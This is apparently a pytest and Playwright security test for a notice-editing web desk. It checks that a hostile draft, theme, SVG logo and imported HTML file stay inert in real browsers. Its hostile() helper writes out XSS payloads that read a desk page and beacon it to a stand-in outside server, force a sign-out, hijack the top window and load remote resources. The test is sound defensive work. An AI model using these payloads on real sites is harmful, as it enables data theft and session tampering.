"""A hostile draft does nothing at the desk, in real browsers: neither its Markdown, a theme, a picture nor a file to import.

Another server stands for everybody else's: it is asked for nothing, whatever a page names.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from desk.access import loopback_address
from desk.views import previews
from tests.browser import firefox
from tests.desk_access_fixtures import Desk
from tests.desk_fixtures import BEN, served_desk
from tests.desk_forms import acts_since, state
from tests.site_fixtures import NOTICE, PROJECT, SITE, make_site, publish, write_notice

LOOKS = ('"act": "read"', '"act": "signed-in-loopback"', '"act": "see-')
PAGES = ("", "notices", "new", "import", "accessibility", "notices/library", "notices/library/review")
MORE = (
    "notices/library/pictures",
    "notices/library/publish",
    "notices/library/versions",
    "notices/library/share",
    "preview/draft/library/",
)


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else's: its address, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        """Notes each request."""

        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


def hostile(other: str) -> str:
    """HTML that reads the desk, posts to it, leaves it, and tells another server."""
    script = (
        f"new Image().src='{other}/script';try{{top.document.title='taken'}}catch(e){{}};try{{top.location='{other}/top'}}catch(e){{}};"
        f"fetch('/desk/notices').then(a=>a.text()).then(t=>new Image().src='{other}/read?'+t.length);"
        "fetch('/desk/sign-out',{method:'POST',credentials:'include'})"
    )
    return f"""
<script>{script}</script>
<img src=x onerror="{script}">
<a id="leads" href="javascript:{script}">A link</a>
<a id="opens" target="_blank" href="{other}/opened">Another</a>
<form id="ends" action="/desk/sign-out" method="post"><button id="presses">Press</button></form>
<form action="{other}/form" method="post"><button id="tells">Press</button></form>
<iframe src="/desk/"></iframe><iframe src="javascript:{script}"></iframe><iframe src="{other}/frame"></iframe>
<object data="{other}/object"></object><embed src="{other}/embed">
<img src="{other}/picture"><video src="{other}/video" autoplay></video>
<style>@import url({other}/style); body {{ background: url({other}/background) }}</style>
<svg onload="{script}"><image href="{other}/svg"/></svg>
"""


def theme(root: Path, other: str) -> None:
    """Templates of the council's own with everything in them that a template can do."""
    layout = (PROJECT / "templates/layout.html").read_text("utf-8")
    start, end = layout.index("{% block policy %}"), layout.index("{% endblock %}", layout.index("{% block policy %}"))
    policy = f"""<base href="{other}/"><meta http-equiv="refresh" content="0;url={other}/refresh">
<link rel="prefetch" href="{other}/prefetch"><link rel="stylesheet" href="{other}/sheet">
<link rel="preconnect" href="{other}"><link rel="dns-prefetch" href="{other}"><link rel="icon" href="{other}/icon">"""
    layout = layout[:start] + "{% block policy %}" + policy + layout[end:]
    (root / "templates").mkdir()
    (root / "templates/layout.html").write_text(layout.replace("</body>", hostile(other) + "</body>"), "utf-8")
    css = (PROJECT / "templates/site.css").read_text("utf-8")
    (root / "templates/site.css").write_text(f'@import "{other}/import";\n{css}', "utf-8")
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{"new Image().src=1"}"><script>fetch("{other}/logo")</script>'
    )
    (root / "logo.svg").write_text(f'{svg}<image href="{other}/in-logo"/></svg>', "utf-8")


@pytest.fixture
def other() -> Iterator[tuple[str, list[str]]]:
    with elsewhere() as found:
        yield found


@pytest.fixture
def root(tmp_path: Path, other: tuple[str, list[str]]) -> Path:
    make_site(tmp_path, site=f"{SITE}theme: {{logo: logo.svg}}\n")
    (tmp_path / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>', "utf-8")
    assert publish(tmp_path, "2026-10-01", "First.", "material") == 0
    text = f"{NOTICE}\n{hostile(other[0])}\n\n[A link](javascript:alert(1)) ![A picture]({other[0]}/markdown)\n"
    write_notice(
        tmp_path,
        text.replace("title: Library", 'title: "<script>document.title=1</script> Library').replace(
            " privacy notice\n", ' privacy notice"\n', 1
        ),
    )
    theme(tmp_path, other[0])
    (tmp_path / "hostile.html").write_text(f"<h1>A notice</h1><p>Words of it.</p>{hostile(other[0])}", "utf-8")
    return tmp_path


def sign_in(page: Page, desk: Desk) -> None:
    page.goto(loopback_address(desk.access))
    page.locator("main button").click()
    page.wait_for_url("**/desk/")


def try_all(page: Page, desk: Desk, root: Path) -> None:
    """Look at every page of the draft, press what it offers in its frame, and bring the hostile file in."""
    address = desk.access.config.address
    for name in PAGES + MORE:
        page.goto(f"{address}/desk/{name}")
        assert page.url == f"{address}/desk/{name}", page.url
        assert page.title() != "taken"
        for frame in page.frames if name in ("notices/library", "preview/draft/library/") else ():
            for each in ("#leads", "#presses", "#tells", "#opens"):
                press(frame.locator(each), page)
        assert page.url == f"{address}/desk/{name}", page.url
    page.goto(f"{address}/desk/import")
    page.set_input_files("#file", root / "hostile.html")
    page.locator("main form button").first.click()
    page.wait_for_load_state()
    assert page.url.startswith(f"{address}/desk/import")


def press(place: object, page: Page) -> None:
    """Press something that may not be there, and see that the page stays."""
    try:
        place.dispatch_event("click", timeout=500)  # type: ignore[attr-defined]
    except Error:  # it is not there, or the frame cannot be told: a sandbox without script
        return


def holds(browser: Browser, desk: Desk, root: Path, asked: list[str]) -> None:
    context = browser.new_context()
    page = context.new_page()
    sign_in(page, desk)
    before = state(root)
    try_all(page, desk, root)
    page.goto(f"{desk.access.config.address}/desk/notices")
    assert page.url.endswith("/desk/notices"), "somebody signed this person out"
    changed = [one for one in acts_since(before, state(root)) if not any(look in one for look in LOOKS)]
    context.close()
    assert changed == []
    assert asked == []


def test_a_hostile_draft_does_nothing_at_the_desk(browser: Browser, root: Path, other: tuple[str, list[str]]) -> None:
    with served_desk(root, BEN) as desk:
        holds(browser, desk, root, other[1])


def test_a_hostile_draft_does_nothing_in_firefox(root: Path, other: tuple[str, list[str]]) -> None:
    with firefox(script=True) as browser, served_desk(root, BEN) as desk:
        holds(browser, desk, root, other[1])


def test_the_same_draft_acts_where_nothing_holds_it(
    browser: Browser, root: Path, other: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Otherwise the tests above would see nothing because the draft is harmless."""
    monkeypatch.setattr(previews, "preview_headers", lambda **_: {"Content-Security-Policy": "frame-ancestors 'self'"})
    with served_desk(root, BEN) as desk:
        context = browser.new_context()
        page = context.new_page()
        sign_in(page, desk)
        with page.expect_request(lambda one: one.url.startswith(other[0])):
            page.goto(f"{desk.access.config.address}/desk/preview/draft/library/", wait_until="commit")
        context.close()
